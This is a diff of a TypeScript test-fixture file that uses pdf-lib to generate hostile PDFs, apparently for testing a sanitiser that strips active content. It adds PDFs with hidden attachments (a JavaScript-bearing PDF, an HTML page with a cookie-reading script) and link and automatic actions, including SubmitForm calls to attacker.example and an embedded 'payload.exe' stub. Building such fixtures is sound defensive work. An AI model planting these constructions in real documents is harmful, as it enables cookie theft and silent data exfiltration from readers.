@@ -1,4 +1,4 @@
-import { PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
+import { type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
 import sharp from 'sharp';
 
 /**
@@ -99,4 +99,55 @@ export function makeExecutableNamedPdf(): Uint8Array {
   bytes.set([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff]);
   bytes.set(new TextEncoder().encode('This program cannot be run in DOS mode.'), 78);
   return bytes;
+}
+
+/** A small PDF that runs JavaScript when opened: the attachment a hostile outer PDF smuggles in. */
+async function makeInnerScriptPdf(): Promise<Uint8Array> {
+  return makePdfWithJavaScript();
+}
+
+/**
+ * The PDF of issue 17, item 8: an ordinary-looking bill carrying, as attachments (compressed, so
+ * no name of the inner file shows in the outer bytes), a PDF with JavaScript and an HTML page.
+ */
+export async function makePdfWithAttachments(): Promise<Uint8Array> {
+  const document = await PDFDocument.load(await makePdf(['Bill with attachments']));
+  await document.attach(await makeInnerScriptPdf(), 'invoice.pdf', { mimeType: 'application/pdf', description: 'inner' });
+  await document.attach(new TextEncoder().encode('<html><script>alert(document.cookie)</script></html>'), 'open-me.html', {
+    mimeType: 'text/html',
+  });
+  return document.save({ useObjectStreams: false });
+}
+
+/**
+ * One page carrying every other active feature, built from pdf-lib's low-level objects: a
+ * file-attachment annotation, links whose actions open other files (/GoToR, /GoToE), send or fetch
+ * form data (/SubmitForm, /ImportData) or play media (/RichMedia), a RichMedia annotation, and
+ * automatic /AA actions on the page and the catalog. One plain web link is there to be kept.
+ */
+export async function makePdfWithActions(): Promise<Uint8Array> {
+  const document = await PDFDocument.load(await makePdf(['Bill with actions']));
+  const { context } = document;
+  const page = document.getPage(0);
+  const rect = [72, 700, 300, 720];
+  const fileSpec = context.obj({
+    Type: 'Filespec',
+    F: PDFString.of('payload.exe'),
+    EF: { F: context.register(context.flateStream(new TextEncoder().encode('MZ payload'), { Type: 'EmbeddedFile' })) },
+  });
+  const link = (action: PDFDict) => context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: action }));
+  const annotations = [
+    context.register(context.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: rect, FS: fileSpec, Contents: PDFString.of('x') })),
+    link(context.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
+    link(context.obj({ S: 'GoToE', T: { R: 'C', N: PDFString.of('invoice.pdf') } })),
+    link(context.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } })),
+    link(context.obj({ S: 'ImportData', F: PDFString.of('data.fdf') })),
+    link(context.obj({ S: 'RichMedia', TA: [] })),
+    context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: rect, RichMediaContent: { Assets: {} } })),
+    link(context.obj({ S: 'URI', URI: PDFString.of('https://www.example.org/bill') })),
+  ];
+  page.node.set(PDFName.of('Annots'), context.obj(annotations));
+  page.node.set(PDFName.of('AA'), context.obj({ O: { S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] } }));
+  document.catalog.set(PDFName.of('AA'), context.obj({ WC: { S: 'SubmitForm', F: PDFString.of('https://attacker.example/') } }));
+  return document.save({ useObjectStreams: false });
 }
